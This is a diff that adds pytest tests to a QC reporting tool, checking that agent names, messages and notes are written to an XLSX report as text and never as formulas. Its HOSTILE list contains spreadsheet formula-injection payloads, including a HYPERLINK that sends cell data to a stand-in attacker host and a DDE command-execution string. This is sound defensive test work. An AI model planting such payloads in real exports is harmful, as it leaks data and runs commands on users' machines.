@@ -274,3 +274,57 @@ def test_qc_report_weekly_rejects_a_bad_week(tmp_path, capsys):
     assert main(["report", "weekly", "--week", "2026-47", "--out", str(tmp_path),
                  "--database", f"sqlite:///{tmp_path / 'x.sqlite3'}"]) == 2
     assert "2026-W47" in capsys.readouterr().err
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(1,2)",
+           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+OUTSIDE_FIELDS = {"agent", "shop", "message", "evidence", "note", "reviewer", "transcript_id",
+                  "channel"}
+
+
+def _poison(value: Any, counter: list[int]) -> Any:
+    """The report with every field that came from the chats or the reviewers replaced by a
+    formula-looking text (cycling through HOSTILE)."""
+    if isinstance(value, dict):
+        out = {}
+        for key, item in value.items():
+            if key in OUTSIDE_FIELDS and isinstance(item, str):
+                counter[0] += 1
+                out[key] = HOSTILE[counter[0] % len(HOSTILE)]
+            else:
+                out[key] = _poison(item, counter)
+        return out
+    if isinstance(value, list):
+        return [_poison(item, counter) for item in value]
+    return value
+
+
+def test_workbook_writes_outside_text_as_text(report, tmp_path):
+    """Agent and shop names, messages, evidence and notes that start with =, +, -, @, a tab
+    or a CR are written as text cells, never as formulas (formula injection)."""
+    import zipfile
+
+    counter = [0]
+    poisoned = _poison(report, counter)
+    poisoned["shop"] = HOSTILE[0]
+    assert counter[0] > 50  # the seeded week has that many outside texts
+    path = tmp_path / "report.xlsx"
+    path.write_bytes(render_xlsx(poisoned))
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets
+        for name in sheets:
+            assert "<f>" not in archive.read(name).decode("utf-8"), name
+    from openpyxl import load_workbook
+
+    book = load_workbook(path)
+    written = {text.replace("\r", "\n"): text for text in HOSTILE}  # XML reads CR as LF
+    found: Counter[str] = Counter()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if cell.value in written:
+                    found[written[cell.value]] += 1
+                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+    assert set(found) == set(HOSTILE), found  # every kind was written, as text
